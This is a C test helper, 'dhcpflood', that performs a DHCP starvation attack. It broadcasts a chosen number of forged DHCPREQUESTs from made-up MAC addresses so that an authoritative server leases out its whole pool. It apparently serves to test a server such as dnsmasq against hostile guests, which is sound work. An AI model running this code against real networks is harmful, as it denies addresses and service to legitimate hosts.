/* dhcpflood IFACE FIRST_IP COUNT: what a hostile guest does to its DHCP
 * server. From IFACE (which must have an address, so that the broadcast
 * can leave), sends COUNT DHCPREQUESTs in the INIT-REBOOT state, each from
 * a made-up MAC and asking for the next address from FIRST_IP on: an
 * authoritative server leases each address it may. The answers are not
 * read. Exits 0 once all were sent. For tests only. */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "dhcpwire.h"

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons(67) };
	struct sockaddr_in from = { .sin_family = AF_INET,
				    .sin_port = htons(68) };
	struct in_addr first;
	long i, count;
	int fd, one = 1;

	if (argc != 4 || inet_pton(AF_INET, argv[2], &first) != 1 ||
	    (count = atol(argv[3])) <= 0) {
		fprintf(stderr, "usage: dhcpflood IFACE FIRST_IP COUNT\n");
		return 2;
	}
	to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one) < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, argv[1],
		       (socklen_t)strlen(argv[1])) < 0 ||
	    bind(fd, (struct sockaddr *)&from, sizeof from) < 0) {
		perror("dhcpflood: socket");
		return 1;
	}
	for (i = 0; i < count; i++) {
		struct dhcp m;
		uint32_t ip = htonl(ntohl(first.s_addr) + (uint32_t)i);
		uint8_t *o = m.opts;

		memset(&m, 0, sizeof m);
		m.op = 1;
		m.htype = 1;
		m.hlen = 6;
		m.xid = htonl(0x6d616100u + (uint32_t)i);
		m.flags = htons(0x8000);   /* answer by broadcast */
		m.chaddr[0] = 0x02;        /* locally administered */
		m.chaddr[1] = 0xfe;
		m.chaddr[2] = (uint8_t)(getpid() & 0xff);
		m.chaddr[3] = (uint8_t)(i >> 16);
		m.chaddr[4] = (uint8_t)(i >> 8);
		m.chaddr[5] = (uint8_t)i;
		m.magic = htonl(DHCP_MAGIC);
		*o++ = 53;                 /* message type: REQUEST */
		*o++ = 1;
		*o++ = 3;
		*o++ = 50;                 /* requested address */
		*o++ = 4;
		memcpy(o, &ip, 4);
		o += 4;
		*o++ = 255;
		if (sendto(fd, &m, sizeof m, 0, (struct sockaddr *)&to,
			   sizeof to) < 0) {
			if (errno == ENOBUFS || errno == EAGAIN) {
				usleep(1000);
				i--;
				continue;
			}
			perror("dhcpflood: sendto");
			return 1;
		}
		usleep(1000);   /* dnsmasq writes its lease file per lease */
	}
	close(fd);
	return 0;
}
